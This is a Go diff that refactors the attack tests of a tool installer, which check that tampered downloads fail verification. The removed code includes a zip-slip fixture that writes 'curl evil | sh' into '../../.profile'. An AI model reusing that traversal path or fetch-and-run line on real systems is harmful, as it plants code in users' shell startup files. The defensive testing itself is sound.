@@ -5,7 +5,6 @@ import (
 	"errors"
 	"io/fs"
 	"net/http"
-	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"slices"
@@ -104,88 +103,34 @@ func TestInstallToolEveryTool(t *testing.T) {
 // evidence can lie; every one is a verification error with the folder's
 // previous program untouched and no temp file left.
 func TestInstallToolAttacks(t *testing.T) {
-	type attack struct {
-		name  string
-		apply func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published)
-		// members replaces the archive's members (archive tools only).
-		members func(a catalog.Artifact, program []byte) []upstream.Member
-		want    error
-	}
-	attacks := []attack{
-		{name: "checksum mismatch", want: ErrChecksumMismatch, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
-			swapped := slices.Clone(pub.File)
-			swapped[len(swapped)-1] ^= 1
-			o.Put(pub.Artifact.URL, swapped)
-		}},
-		{name: "evidence withheld", want: ErrEvidenceMissing, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
-			for _, pr := range pub.Artifact.Proofs {
-				if pr.Kind == catalog.GitHubAssetDigest {
-					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "")
-				} else {
-					o.Remove(pr.At)
-				}
-			}
-		}},
-		{name: "API digest mismatch", want: ErrChecksumMismatch, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
-			for _, pr := range pub.Artifact.Proofs {
-				if pr.Kind == catalog.GitHubAssetDigest {
-					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "sha256:"+sha([]byte("another file")))
-				}
-			}
-		}},
-		{name: "malformed digest", want: ErrBadDigest, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
-			for _, pr := range pub.Artifact.Proofs {
-				if pr.Kind == catalog.GitHubAssetDigest {
-					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "md5:abc")
-				} else {
-					o.Put(pr.At, []byte("<html>not found</html>"))
-				}
-			}
-		}},
-		{name: "zip-slip member", want: ErrVerification, members: func(a catalog.Artifact, program []byte) []upstream.Member {
-			return []upstream.Member{{Name: a.Member, Body: program}, {Name: "../../.profile", Body: []byte("curl evil | sh")}}
-		}},
-		{name: "two programs of that name", want: ErrVerification, members: func(a catalog.Artifact, program []byte) []upstream.Member {
-			return []upstream.Member{{Name: a.Member, Body: program}, {Name: a.Member, Body: []byte("evil")}}
-		}},
-		{name: "program elsewhere in the archive", want: ErrVerification, members: func(a catalog.Artifact, program []byte) []upstream.Member {
-			return []upstream.Member{{Name: "other/" + a.Program, Body: program}}
-		}},
-		{name: "version redirect to another host", want: ErrBadMarker, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
-			evil := httptest.NewServer(http.NotFoundHandler())
-			evil.Close()
-			o.Redirect(tool.Versions.URL, catalog.Mirrored(evil.URL, strings.TrimSuffix(tool.Versions.URL, "latest")+"tag/"+pub.Artifact.Version))
-		}},
+	// What each attack must be reported as, besides ErrVerification.
+	want := map[string]error{
+		"checksum mismatch":                ErrChecksumMismatch,
+		"evidence withheld":                ErrEvidenceMissing,
+		"API digest mismatch":              ErrChecksumMismatch,
+		"malformed digest":                 ErrBadDigest,
+		"zip-slip member":                  ErrBadArchive,
+		"two programs of that name":        ErrBadArchive,
+		"program elsewhere in the archive": ErrBadArchive,
+		"version redirect to another host": ErrBadMarker,
 	}
 	for _, tool := range downloadable() {
 		for _, p := range platformsOf(tool) {
-			for _, at := range attacks {
-				a, _ := tool.Artifact("v1.3.0", p)
-				hasAPI := a.Proofs[0].Kind == catalog.GitHubAssetDigest
-				switch {
-				case at.members != nil && a.Archive == catalog.Raw,
-					at.name == "API digest mismatch" && !hasAPI,
-					at.name == "version redirect to another host" && tool.Versions.Kind != catalog.VersionReleaseRedirect:
-					continue // does not apply
+			a, _ := tool.Artifact("v1.3.0", p)
+			for _, at := range upstream.Attacks() {
+				if !at.AppliesTo(tool, a) {
+					continue
 				}
-				t.Run(tool.Name+"/"+p.String()+"/"+at.name, func(t *testing.T) {
+				t.Run(tool.Name+"/"+p.String()+"/"+at.Name, func(t *testing.T) {
 					o := upstream.Start(t)
-					program := []byte("program of " + tool.Name)
-					var members []upstream.Member
-					if at.members != nil {
-						members = at.members(a, program)
-					}
-					pub := o.Publish(t, tool, "v1.3.0", p, program, true, members)
-					if at.apply != nil {
-						at.apply(o, tool, pub)
-					}
+					o.PublishAttacked(t, tool, "v1.3.0", p, []byte("program of "+tool.Name), at)
 					dir := testutil.TempDir(t)
 					previous := []byte("the program that was there")
 					os.WriteFile(filepath.Join(dir, a.Program), previous, 0o755)
 					c := toolClient(t, o, Options{})
 					res, err := c.InstallTool(context.Background(), ToolRequest{Tool: tool.Name, Dir: dir, Platform: Platform{p.OS, p.Arch}})
-					if !errors.Is(err, at.want) || !errors.Is(err, ErrVerification) {
-						t.Fatalf("got %+v, %v; want %v (a verification error)", res, err, at.want)
+					if want[at.Name] == nil || !errors.Is(err, want[at.Name]) || !errors.Is(err, ErrVerification) {
+						t.Fatalf("got %+v, %v; want %v (a verification error)", res, err, want[at.Name])
 					}
 					if errors.Is(err, fs.ErrNotExist) {
 						t.Errorf("a lie is not 'not published': %v", err)
